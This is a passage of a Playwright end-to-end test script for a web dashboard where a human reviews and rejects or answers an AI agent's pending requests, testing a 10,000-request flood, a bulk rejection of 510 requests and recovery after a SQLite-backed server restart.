    assert.ok(longest <= LONGEST_TASK_MS, `a ${longest} ms main-thread task while 200 requests arrived`);
    assert.equal(await page.locator('article.card').count(), 50, 'the live ones are counted, not rendered');

    // "Show more": the next page, the focus on its first card.
    const more = page.getByRole('button', { name: 'Show 50 more (10150 not shown)' });
    await more.scrollIntoViewIfNeeded();
    await shoot(page, 'flood-desktop', { fullPage: false });
    await more.click();
    await until('the second page', async () => (await page.locator('article.card').count()) === 100);
    assert.equal(
      await page.evaluate(() => document.activeElement.dataset.id),
      await page.locator('article.card').nth(50).getAttribute('data-id'),
    );
    await page.getByRole('button', { name: 'Show 50 more (10100 not shown)' }).waitFor({ timeout: WAIT });

    // The human picks the runaway session and refuses everything it has pending: its 510
    // outcomes arrive live, and the page keeps up.
    const runaway = 'ui-flood-03';
    await page.getByRole('combobox', { name: /^Session/ }).selectOption(runaway);
    await page.locator('#pending-count', { hasText: /^510$/ }).waitFor({ timeout: WAIT });
    await until('the session\'s window', async () => (await shownPending(page)).length === 50);
    await timelineLive(page);
    const rejecting = await page.evaluate(() => performance.now());
    await page.getByRole('button', { name: 'Reject all pending in this session…' }).click();
    await page.getByRole('button', { name: 'Reject all 510', exact: true }).click();
    await page.locator('#empty', { hasText: `Nothing is waiting for you in session “${runaway}”.` }).waitFor({ timeout: WAIT });
    assert.equal(await page.locator('article.card').count(), 0);
    const rejectedLongest = await longestTask(page, rejecting);
    floodFigures.longest_task_ms_reject_all_510 = Math.round(rejectedLongest);
    assert.ok(rejectedLongest <= LONGEST_TASK_MS, `a ${rejectedLongest} ms main-thread task while 510 requests were rejected`);
    assert.deepEqual(await serverPending(URL_FLOOD, runaway), []);
    assert.equal(await page.locator('#session-filter option').first().textContent(), 'All sessions (9690)');
    log(`flood figures: ${JSON.stringify(floodFigures)}`);
    await page.close();
  },

  /**
   * A server that keeps everything in SQLite restarts while a session waits for an
   * answer: the open page's timeline goes on where it was (its stream resumes after its
   * cursor), a reload shows the same timeline from the stored history, the pending question
   * in it, and answering it reaches the agent.
   */
  async timeline_restart() {
    const session = 'ui-restart';
    const step = (body) => agent.step(session, body, 'durable');
    await step({ type: 'user', text: 'Tidy up the old branches.' });
    await step({
      type: 'tool_use',
      id: 'tc-r1',
      name: 'list_branches',
      input: { merged: true },
      tool_content_message: 'List the merged branches',
    });
    await step({ type: 'tool_result', tool_use_id: 'tc-r1', name: 'list_branches', content: '12 merged branches' });
    const question = await agent.ask('restart_question');
    const page = await open(URL_DURABLE, `?session=${session}`);
    await live(page);
    await timelineLive(page);
    const waiting = [
      'tl-user: User Tidy up the old branches.',
      'group done collapsed: List the merged branches › [success List the merged branches]',
      'tl-question: Waiting for your answer. Answer it Branches What should happen to the merged branches?',
    ];
    await timelineReads(page, waiting);
    await card(page, question.id).waitFor({ timeout: WAIT });

    await agent.restart();
    // The page reconnects by itself, and its stream goes on after its cursor.
    await step({ type: 'text', text: 'Waiting for your decision.' });
    const after = [...waiting, 'tl-text: Waiting for your decision.'];
    await timelineReads(page, after);
    // A reload reads the same timeline from the stored history.
    await page.reload();
    await live(page);
    await timelineLive(page);
    await timelineReads(page, after);
    await page.locator('#timeline').getByRole('button', { name: 'Answer it' }).click();
    const form = card(page, question.id);
    await radio(form, /Delete them/).check();
    await form.getByRole('button', { name: 'Submit answer' }).click();
    assert.deepEqual(await agent.outcome('restart_question'), { answers: [['Delete them']] });
    await timelineReads(page, [
      waiting[0],
      waiting[1],
      'tl-question: answered by local Branches What should happen to the merged branches? Delete them',
      after[3],
    ]);
    await page.close();
  },
};

// ---- Main -------------------------------------------------------------------------------------

async function main() {
  await mkdir(SCREENSHOTS, { recursive: true });
  const started = Date.now();
  context = await launch({ viewport: DESKTOP });
  // A step that cannot happen fails within the same limit as a wait.
  context.setDefaultTimeout(WAIT);
  context.on('request', (request) => {
    const url = new URL(request.url());
    if (['http:', 'https:', 'ws:', 'wss:'].includes(url.protocol) && !origins.has(url.origin)) {
      external.push(request.url());
    }
  });
  log(`chromium ${context.browser()?.version() ?? ''} up in ${Date.now() - started} ms`);
  const ran = [];
  try {
    for (const [name, scenario] of Object.entries(scenarios)) {
      if (ONLY.length > 0 && !ONLY.includes(name)) continue;
      const begun = Date.now();
      try {
        await scenario();
      } catch (error) {
        for (const [index, page] of context.pages().entries()) {
          await page.screenshot({ path: join(SCREENSHOTS, `failed-${name}-${index}.png`), fullPage: true }).catch(() => {});
        }
        error.message = `scenario ${name}: ${error.message}`;
        throw error;
      }
      log(`ok ${name} (${Date.now() - begun} ms)`);
      ran.push(name);
    }
    assert.deepEqual(external, [], 'the page made no request to another origin');
    assert.deepEqual(pageErrors, [], 'no uncaught errors in the page');
  } finally {
    await context.close();
  }
  process.stdout.write(`${JSON.stringify({ done: { scenarios: ran, screenshots, flood: floodFigures } })}\n`);
}

main().then(
  () => process.exit(0),
  (error) => {
    console.error(error?.stack || error);
    process.exit(1);
  },
);
